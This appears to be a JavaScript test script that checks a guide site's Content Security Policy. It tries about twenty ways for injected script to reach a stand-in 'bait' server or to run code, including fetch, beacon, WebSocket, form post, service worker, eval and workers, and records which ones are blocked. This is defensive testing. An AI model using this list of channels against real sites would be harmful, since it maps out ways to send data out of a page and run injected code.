/* What a script that got into a page of the guide would try; BAIT is a server of somebody else. */
const bait = new URL(document.currentScript.src).searchParams.get('bait')
const results = {}
window.attack = { results, done: false }

const add = (name, properties) =>
  document.body.append(Object.assign(document.createElement(name), properties))

const TRIES = {
  fetch: () => fetch(`${bait}/fetch`, { mode: 'no-cors' }),
  beacon: () => navigator.sendBeacon(`${bait}/beacon`, 'x'),
  image: () => add('img', { src: `${bait}/image` }),
  socket: () => new WebSocket(`${bait.replace('http', 'ws')}/socket`),
  events: () => new EventSource(`${bait}/events`),
  frame: () => add('iframe', { name: 'sink', src: `${bait}/frame` }),
  form: () => {
    add('form', { action: `${bait}/form`, method: 'post', target: 'sink' })
    document.forms[0].submit()
  },
  prefetch: () =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${bait}/prefetch` }),
    ),
  stylesheet: () =>
    document.head.append(
      Object.assign(document.createElement('link'), {
        rel: 'stylesheet',
        href: `${bait}/stylesheet`,
      }),
    ),
  font: () => new FontFace('x', `url(${bait}/font)`).load(),
  background: () => document.body.style.setProperty('background', `url(${bait}/background)`),
  module: () => import(`${bait}/module`),
  script: () => add('script', { src: `${bait}/script` }),
  inline: () => add('script', { textContent: 'window.attack.results.inlineRan = true' }),
  markup: () => {
    document.body.innerHTML = '<b>x</b>'
  },
  evaluated: () => (0, eval)('window.attack.results.evalRan = true'),
  compiled: () => new Function('window.attack.results.functionRan = true')(),
  dataWorker: () => new Worker('data:text/javascript,postMessage(1)'),
  blobWorker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  serviceWorker: () => navigator.serviceWorker.register(`${bait}/sw.js`),
  policy: () => trustedTypes.createPolicy('mine', { createHTML: (x) => x }),
}

async function run() {
  for (const [name, act] of Object.entries(TRIES)) {
    try {
      await Promise.race([act(), new Promise((done) => setTimeout(done, 300))])
      results[name] = 'quiet'
    } catch {
      results[name] = 'refused'
    }
  }
  window.attack.done = true
}
addEventListener('load', () => void run())
